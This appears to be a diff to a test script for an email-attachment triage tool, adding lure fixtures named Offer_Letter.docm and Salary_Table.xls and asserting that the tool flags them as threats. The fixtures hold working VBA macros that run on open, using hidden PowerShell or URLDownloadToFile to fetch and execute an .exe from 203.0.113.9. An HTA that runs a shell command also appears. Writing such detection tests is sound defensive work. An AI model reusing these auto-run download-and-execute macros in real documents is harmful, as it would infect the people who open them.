@@ -83,6 +83,20 @@ forwarded = write("forwarded.eml", lures.mail(
     "FW: Senior Engineer opportunity", "Reported with the report button.", sender="Staff <staff@bulwark.example>",
     attachments=[("original.eml", "message/rfc822", lures.dream_job_mail())]))
 
+AUTO_SHELL = ('Sub AutoOpen()\n    Dim r\n    r = Shell("cmd /c powershell -w hidden -c iwr http://203.0.113.9/a.exe", vbHide)\n'
+              'End Sub\n')
+DOWNLOADER = ('Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" '
+              '(ByVal p As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As LongPtr) As Long\n'
+              'Sub Workbook_Open()\n    URLDownloadToFile 0, "http://203.0.113.9/p.exe", Environ("TEMP") & "\\p.exe", 0, 0\n'
+              '    Shell Environ("TEMP") & "\\p.exe"\nEnd Sub\n')
+BENIGN = 'Function Total(a, b)\n    Total = a + b\nEnd Function\n'
+docm = write("Offer_Letter.docm", lures.docm(AUTO_SHELL))
+xls = write("Salary_Table.xls", lures.vba("xls", DOWNLOADER))
+benign_xls = write("budget.xls", lures.vba("xls", BENIGN))
+for f, src in ((xls, "Workbook_Open"), (benign_xls, "Function Total")):
+    dump = subprocess.run(["gsf-vba-dump", f], capture_output=True, text=True).stdout
+    expect(src in dump, f"libgsf's own VBA reader (gsf-vba-dump) reads the built project: {dump[:300]}")
+expect(file_type(xls) == "application/vnd.ms-excel", f"file(1) reads the .xls: {file_type(xls)}")
 hta = write("Invitation.hta", b'<html><head><hta:application id="x"/></head><script language="VBScript">\n'
                                b'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c whoami"\n</script></html>\n')
 
@@ -129,6 +143,15 @@ rc, res = triage(docx)
 expect(res["verdict"] == "threat" and ("remote_template", "JD_Senior_Engineer.docx/word/_rels/settings.xml.rels")
        in reasons(res) and {"type": "domain", "value": "templates.careers-aero.example"} in res["indicators"],
        f"a .docx with a remote template: {res}")
+rc, res = triage(docm)
+expect(res["verdict"] == "threat" and ("vba_macroraptor", "Offer_Letter.docm/word/vbaProject.bin/(VBA Module1)") in
+       reasons(res) and {"type": "url", "value": "http://203.0.113.9/a.exe"} in res["indicators"],
+       f"a .docm whose AutoOpen runs a shell: MacroRaptor's rule: {res}")
+rc, res = triage(xls)
+expect(res["verdict"] == "threat" and {"vba_macroraptor", "vba_download", "vba_macro"} <= codes(res),
+       f"an .xls whose Workbook_Open downloads and runs: {res}")
+rc, res = triage(benign_xls)
+expect(res["verdict"] == "clean" and codes(res) == {"vba_macro"}, f"a macro that does not run by itself: {res}")
 rc, res = triage(rtf)
 expect(res["verdict"] != "clean" and "rtf_remote_template" in codes(res) and "ip_url" in codes(res),
        f"an RTF with a remote \\*\\template on a bare address: {res}")
@@ -166,13 +189,13 @@ expect(res["verdict"] == "threat" and any(w.startswith("(mail)/(attached message
 # ---- memcheck: the same fixtures walked in-process by an unsanitised build under valgrind ----
 if VALGRIND_BW:
     runs = 0
-    for f in (dj, iso, docx, rtf, exe, pdf_js, nested, clean_mail, phish, forwarded):
+    for f in (dj, iso, docx, rtf, exe, pdf_js, nested, clean_mail, phish, forwarded, docm, xls):
         p = subprocess.run(["valgrind", "-q", "--error-exitcode=99", "--leak-check=no", VALGRIND_BW, "report",
                             "triage", "--no-isolation", "--json", f], capture_output=True, timeout=600)
         out = p.stderr.decode()
         if p.returncode == 99 or "Invalid read" in out or "uninitialised" in out:
             fail(f"valgrind memcheck found an error walking {f}:\n{out[-3000:]}")
         runs += 1
-    expect(runs == 10, "every fixture walked under valgrind memcheck")
+    expect(runs == 12, "every fixture walked under valgrind memcheck")
 
 finish("triage_test")
